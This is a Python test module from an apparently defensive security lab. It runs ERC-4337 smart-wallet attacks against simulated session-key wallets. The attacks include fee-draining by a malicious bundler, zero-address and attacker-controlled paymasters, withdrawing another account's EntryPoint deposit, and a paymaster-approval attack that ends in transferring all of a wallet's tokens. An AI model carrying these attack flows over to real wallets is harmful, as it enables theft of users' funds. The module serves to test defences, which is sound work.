"""Attacks on gas: burning the wallet's ETH, or making another account pay."""

from __future__ import annotations

from sessionlab.attacks.attack import attack
from sessionlab.attacks.attack_lab import (
    COUNTER,
    DEPOSIT,
    ETHER,
    GAS,
    INCREMENT,
    PAYMASTER,
    SESSION,
    STRANGER,
    TOKEN,
    WALLET,
    AttackLab,
    deposit_of,
    left,
    tokens,
)
from sessionlab.attacks.gains import counts, units
from sessionlab.attacks.operations import act, install, operation, send, signed, transact
from sessionlab.core.base.addresses import ZERO_ADDRESS
from sessionlab.core.contracts.artifacts import artifact
from sessionlab.core.erc4337.call import Call
from sessionlab.core.erc4337.user_operation import ENTRY_POINT
from sessionlab.core.evm.records import DELEGATION
from sessionlab.core.permissions import ContractAccess, GasLimit
from sessionlab.core.permissions.limits import LimitKind

KEY = "the session key"
ACCESS = ContractAccess(address=COUNTER)
PING = [Call(COUNTER, data=INCREMENT)]
FAIL = [Call(COUNTER, data=artifact("Counter").encode("fail"))]
PRICE = GAS["max_fee_per_gas"]
EACH = GAS["verification_gas_limit"] + GAS["call_gas_limit"] + GAS["pre_verification_gas"]


def limit_for(lab: AttackLab, operations: int) -> GasLimit:
    """Return a gas-limit sized for this many operations: in gas, or in wei under the deployed rules."""
    return GasLimit(limit=operations * EACH * (1 if lab.rules.gas_limit_counts_gas else PRICE))


@attack(
    "gas",
    holds="the session key and a bundler",
    gain="about 1.06 ETH of fees for one operation",
    source="Openfort audit OF-1, high; about 11.8 ETH was lost from 300 wallets in July 2026",
    passes=("documented", "deployed"),
)
def own_bundler(lab: AttackLab) -> str:
    """No gas-limit is granted: the thief bundles its own operation at 1,000 times the price. The audit says so."""
    install(lab, [ACCESS])
    before = deposit_of(lab)
    act(lab, PING, max_fee_per_gas=1_000 * PRICE, max_priority_fee_per_gas=1_000 * PRICE, pre_verification_gas=10**6)
    lost = before - deposit_of(lab)
    return f"{lost:,} wei of fees" if lost > EACH * PRICE else ""


@attack("gas", holds="the session key and a bundler", gain="gas over the limit", source="Openfort audit OF-1, high")
def own_bundler_under_a_limit(lab: AttackLab) -> str:
    """The same under a gas-limit: whatever limits and prices the bundler sets, the allowance ends."""
    install(lab, [limit_for(lab, 2), ACCESS])
    before = deposit_of(lab)
    for more in (0, 10**6, 4 * 10**6):
        act(lab, PING, pre_verification_gas=GAS["pre_verification_gas"] + more)
    for _ in range(4):
        act(lab, PING)
    lost = before - deposit_of(lab)
    return f"{lost:,} wei of fees" if lost > 2 * EACH * PRICE else ""


@attack("gas", holds="the session key and a bundler", gain="gas over the limit", source="found by review")
def nobody_as_paymaster(lab: AttackLab) -> str:
    """The operation names the zero address as its paymaster: who pays then is the wallet, and no limit was asked."""
    install(lab, [limit_for(lab, 1), ACCESS])
    before = deposit_of(lab)
    for _ in range(3):
        act(lab, PING, pre_verification_gas=10**6, paymaster=ZERO_ADDRESS)
    lost = before - deposit_of(lab)
    return f"{lost:,} wei of fees" if lost > EACH * PRICE else ""


@attack(
    "gas",
    holds="the session key and a bundler",
    gain="fees at any price: the limit counts units",
    source="SmartSession audit, ChainLight CL-001",
    passes=("documented",),
)
def price_not_units(lab: AttackLab) -> str:
    """The limit counts gas and not what it costs: 1,000 times the price. The audit reckons the worst case in ETH."""
    install(lab, [limit_for(lab, 1), ACCESS])
    before = deposit_of(lab)
    act(lab, PING, max_fee_per_gas=1_000 * PRICE, max_priority_fee_per_gas=1_000 * PRICE)
    lost = before - deposit_of(lab)
    return f"{lost:,} wei of fees" if lost > EACH * PRICE else ""


@attack("gas", holds=KEY, gain="gas without end", source="any budget that a revert gives back")
def fail_for_free(lab: AttackLab) -> str:
    """Operations that fail cost the wallet gas: each must use up the allowance."""
    install(lab, [limit_for(lab, 2), ACCESS])
    limit = left(lab, LimitKind.GAS)
    included = sum(bool(act(lab, FAIL).included) for _ in range(4))
    free = included * limit // 2 > limit - left(lab, LimitKind.GAS)
    return f"{included} operations, where the limit is worth 2" if free else ""


@attack("gas", holds="the session key and a paymaster", gain="tokens", source="264,000 USD were lost in July 2026")
def paymaster_swap(lab: AttackLab) -> str:
    """The operation names the attacker's paymaster: validation must change nothing of the wallet's."""
    install(lab, [limit_for(lab, 1), ACCESS])
    before = (tokens(lab, WALLET), lab.chain.balance(WALLET), deposit_of(lab), left(lab, LimitKind.GAS))
    for _ in range(3):
        act(lab, PING, paymaster=PAYMASTER, paymaster_verification_gas_limit=100_000)
    after = (tokens(lab, WALLET), lab.chain.balance(WALLET), deposit_of(lab), left(lab, LimitKind.GAS))
    approved = lab.chain.call(TOKEN, artifact("Token").encode("allowance", WALLET, PAYMASTER)).output
    return f"{before} became {after}" if before != after or any(approved) else ""


@attack("gas", holds=KEY, gain="more gas than the wallet has", source="ERC-4337, prefund")
def more_than_the_deposit(lab: AttackLab) -> str:
    """An operation that may cost more than the wallet has anywhere: others' deposits would pay for it."""
    install(lab, [ACCESS])
    act(lab, PING, max_fee_per_gas=10**15, max_priority_fee_per_gas=0)
    return counts(lab) or ("" if deposit_of(lab) == DEPOSIT else "the deposit moved")


@attack("gas", holds="an account of its own", gain="the wallet's deposit", source="ERC-4337, withdrawTo")
def withdraw_of_another(lab: AttackLab) -> str:
    """A stranger asks the EntryPoint for deposits that are not its own."""
    made = artifact("EntryPoint")
    transact(lab, STRANGER, ENTRY_POINT, made.encode("withdrawTo", STRANGER.address, DEPOSIT))
    transact(lab, STRANGER, ENTRY_POINT, made.encode("withdrawTo", STRANGER.address, 1))
    return "" if deposit_of(lab) == DEPOSIT else "the deposit moved"


@attack("gas", holds=KEY, gain="a free operation", source="ERC-4337, verificationGasLimit")
def too_little_verification_gas(lab: AttackLab) -> str:
    """Validation is given less gas than it takes, so that a bundler would pay the rest."""
    install(lab, [ACCESS])
    op = operation(lab, PING, verification_gas_limit=3_000)
    send(lab, signed(lab, op, SESSION))
    return counts(lab)


@attack(
    "gas",
    holds="the session key and a paymaster",
    gain="all tokens",
    source="264,000 USD were lost in July 2026 (Lumi Finance)",
)
def paymaster_approval(lab: AttackLab) -> str:
    """Validation approves the paymaster that is named, for the token that its data name: the thief is it."""
    install(lab, [ACCESS])
    lab.chain.set_code(STRANGER.address, DELEGATION + bytes.fromhex(PAYMASTER[2:]))
    transact(lab, STRANGER, ENTRY_POINT, artifact("EntryPoint").encode("depositTo", STRANGER.address), ETHER)
    named = bytes.fromhex(TOKEN[2:])
    act(
        lab,
        PING,
        paymaster=STRANGER.address,
        paymaster_verification_gas_limit=100_000,
        paymaster_data=named,
    )
    everything = tokens(lab, WALLET)
    take = artifact("Token").encode("transferFrom", WALLET, STRANGER.address, everything)
    transact(lab, STRANGER, TOKEN, take)
    return units(lab)
